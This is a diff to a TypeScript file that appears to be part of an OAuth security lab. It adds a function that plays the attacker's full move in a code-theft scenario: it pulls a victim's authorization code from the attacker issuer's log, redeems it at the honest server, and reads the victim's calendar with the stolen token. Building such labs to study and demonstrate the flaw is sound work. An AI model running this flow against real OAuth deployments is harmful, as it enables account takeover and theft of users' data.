@@ -183,3 +183,23 @@ export async function callApiWithStolenToken(url: string, accessToken: string, c
   const response = await oauth.protectedResourceRequest(accessToken, 'GET', new URL(url), new Headers({accept: 'application/json'}), null, httpOptions(config));
   return {status: response.status, body: await response.json().catch(() => null)};
 }
+
+/** What the attacker got for its trouble: nothing from this sign-in, or the honest server's answer to the code it received. */
+export type Theft = {stolen: false; received: number} | {stolen: true; outcome: RedeemOutcome; sub?: string; apiStatus?: number};
+
+/**
+ * The attacker's whole move: it reads what its token endpoint received, picks this sign-in's code (the
+ * one in the app's callback), redeems it at the honest server and reads the calendar with the token.
+ */
+export async function useReceivedCode(config: LabConfig, honest: ServerRegistration, attackerIssuer: string, callbackUrl: URL | string, eventsUrl: string): Promise<Theft> {
+  const received = await readAttackerLog(attackerIssuer, config);
+  const code = new URL(callbackUrl).searchParams.get('code');
+  const stolen = received.find((entry) => entry.code === code);
+  if (!stolen) return {stolen: false, received: received.length};
+  const outcome = await redeemStolenCode(await discover(config, honest), config, honest.clientId, stolen);
+  if (!outcome.sent || !('tokens' in outcome)) return {stolen: true, outcome};
+  const api = await callApiWithStolenToken(eventsUrl, outcome.tokens.access_token, config);
+  // The calendar API names the user whose token it was given.
+  const sub = (api.body as {caller?: {sub?: string}} | null)?.caller?.sub;
+  return {stolen: true, outcome, apiStatus: api.status, ...(sub ? {sub} : {})};
+}
